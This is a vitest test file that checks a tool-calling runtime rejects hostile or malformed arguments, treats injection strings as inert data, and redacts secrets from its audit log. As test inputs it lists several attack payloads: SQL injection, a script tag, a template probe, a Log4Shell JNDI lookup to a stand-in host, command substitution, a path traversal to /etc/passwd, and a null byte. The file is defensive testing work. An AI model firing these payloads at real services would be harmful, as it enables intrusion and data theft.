import { describe, expect, it } from 'vitest';
import { connectInProcess, ERAS, errorOf } from '../helpers/client.js';
import { testRuntime } from '../helpers/runtime.js';
import { textTool } from '../helpers/tools.js';

const CANARY = 'canary-5f2b9c';

/** Nested too deep for JSON.stringify, which must not keep the call out of the audit trail. */
const abyss = (): unknown => JSON.parse('['.repeat(4_000) + ']'.repeat(4_000));

describe.each(ERAS)('hostile arguments over %s', (era) => {
  it.each<[string, Record<string, unknown>]>([
    ['an unknown key', { text: 'x', [CANARY]: 1 }],
    ['a text that is too long', { text: CANARY.repeat(2_000) }],
    ['a list where a text belongs', { text: [CANARY] }],
    ['an object where a text belongs', { text: { toString: CANARY } }],
    ['deep nesting', { text: abyss() }],
  ])('never reach the handler, are not repeated, and are on record: %s (P-53 to P-57)', async (_name, args) => {
    let reached = false;
    const tool = textTool('watched_text', async (text) => {
      reached = true;
      return text;
    });
    const runtime = testRuntime({ tools: [tool] });
    const client = await connectInProcess(runtime, era);
    const error = errorOf(await client.callTool({ name: 'watched_text', arguments: args }));
    expect(error.code).toBe('INVALID_INPUT');
    expect(JSON.stringify(error)).not.toContain(CANARY);
    expect(reached).toBe(false);
    expect(runtime.audited).toMatchObject([{ tool: 'watched_text', decision: 'failed', correlationId: error.correlationId }]);
  });

  it.each([
    "'; DROP TABLE users; --",
    '<script>alert(1)</script>',
    '{{7*7}}',
    '$\u007Bjndi:ldap://evil.example/a}',
    '$(id)',
    '../../etc/passwd',
    '%00',
  ])('are data and nothing else: %s (P-130)', async (text) => {
    const client = await connectInProcess(testRuntime(), era);
    expect((await client.callTool({ name: 'echo_text', arguments: { text } })).structuredContent).toEqual({ text });
  });

  it('are shortened, cleaned and redacted before they go on record (P-115)', async () => {
    const runtime = testRuntime();
    const client = await connectInProcess(runtime, era);
    const text = `\u202E${'x'.repeat(5_000)} password=https://app:${CANARY}@db`;
    await client.callTool({ name: 'echo_text', arguments: { text: `https://app:${CANARY}@db ${text}` } });
    const [record] = runtime.audited;
    expect(record?.arguments.length).toBeLessThanOrEqual(1_024);
    expect(record?.arguments).not.toMatch(/\u202E|canary/);
  });
});
